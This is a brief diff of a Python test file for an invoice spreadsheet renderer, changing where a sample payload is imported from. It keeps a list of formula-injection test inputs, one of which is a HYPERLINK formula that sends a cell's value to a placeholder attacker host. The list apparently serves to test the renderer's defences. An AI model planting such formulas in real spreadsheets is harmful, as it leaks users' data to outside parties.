@@ -14,7 +14,7 @@ from openpyxl.worksheet.worksheet import Worksheet
 from invoices.document import build_document
 from invoices.document.model import Document, RenderOptions
 from invoices.renderers.xlsx import CONTENT_TYPE, TABLE_HEADER, render_xlsx
-from tests.invoices.conftest import sample_payload
+from tests.payloads import sample_payload
 
 FORMULA_PAYLOADS = ["=1+2", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"x")']
 
